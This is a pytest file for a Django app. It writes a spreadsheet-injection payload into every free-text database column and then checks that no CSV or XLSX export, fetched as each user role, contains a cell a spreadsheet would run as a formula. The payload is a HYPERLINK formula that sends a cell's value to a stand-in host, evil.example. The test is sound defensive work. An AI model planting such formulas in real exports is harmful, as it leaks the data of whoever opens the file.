"""No table that leaves the house holds a cell that a spreadsheet would run, whatever people wrote into the rows."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from itertools import product
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.db import Error, connection, models, transaction

from lianglin.kit import held
from lianglin.kit.spreadsheet import RUNS
from tests.planted import ROUTES, Planted
from tests.world import STREET

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"开")'
WHO = (STREET, "manager", "protection_officer", "auditor", "resident")
WORDS = re.compile(
    r"(name|title|text|note|reason|address|words|description|necessity|risks|measures)(_en|_zh)?$"
)
"""Columns that hold what somebody wrote; a code in their place would take rights away, and pages with them."""
QUERIES = ("", "?place=2301", "?months=3")


def write_formulas() -> int:
    """Into every free text of every row; how many columns took one. What a rule forbids stays as it was."""
    taken = 0
    for model in apps.get_models():
        if not model.__module__.startswith("lianglin"):
            continue
        for column in model._meta.concrete_fields:
            free = isinstance(column, models.CharField | models.TextField) and not column.choices
            if (
                free
                and WORDS.search(column.name)
                and not column.unique
                and (column.max_length or 10_000) >= len(FORMULA)
            ):
                taken += _written(model._meta.db_table, column.column)
    return taken


def _written(table: str, column: str) -> bool:
    try:
        with transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(f'update "{table}" set "{column}" = %s', [FORMULA])
            return bool(cursor.rowcount)
    except Error:
        return False


def cells_of(answer: Any) -> Iterator[str]:
    """The texts of a table, when the answer is one."""
    kind = answer.headers.get("Content-Type", "")
    if answer.status_code != 200:
        return
    if kind.startswith("text/csv"):
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
            yield from row
    elif "spreadsheetml" in kind:
        for sheet in openpyxl.load_workbook(io.BytesIO(answer.content)):
            for row in sheet.iter_rows():
                yield from (f"={cell.value}" if cell.data_type == "f" else "" for cell in row)


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula; a bare number is none."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ").startswith(RUNS)
    return False


def test_no_table_that_leaves_holds_a_formula(planted: Planted) -> None:
    assert write_formulas() > 20
    held.forget()
    found, tables = set(), set()
    for persona, address in product(WHO, sorted(addresses(planted))):
        cells = list(cells_of(planted.browser(persona).get(address)))
        tables |= {address.partition("?")[0]} if cells else set()
        found |= {f"{address}: {cell}" for cell in cells if runs(cell)}
    assert not found, "\n".join(sorted(found))
    assert len(tables) >= 4, tables


def addresses(planted: Planted) -> set[str]:
    """Every address that may hand out a table; one whose parameter may be a kind of file, for each kind."""
    found = set()
    for route in ROUTES:
        if re.search(r"csv|xlsx|export|<(str:|slug:)?code>", route[1]):
            first = planted.addresses(route)[0]
            found |= {first, *(first.replace("accept", kind) for kind in ("csv", "xlsx"))}
    return {address + query for address in found for query in (QUERIES if "csv" in address else QUERIES[:1])}


@pytest.mark.parametrize(
    ("cell", "is_one"), [("=1+1", True), ("-2", False), (" @x", True), ("'=1", False), ("5 %", False)]
)
def test_a_formula_is_told_from_a_number(cell: str, is_one: bool) -> None:
    assert runs(cell) is is_one
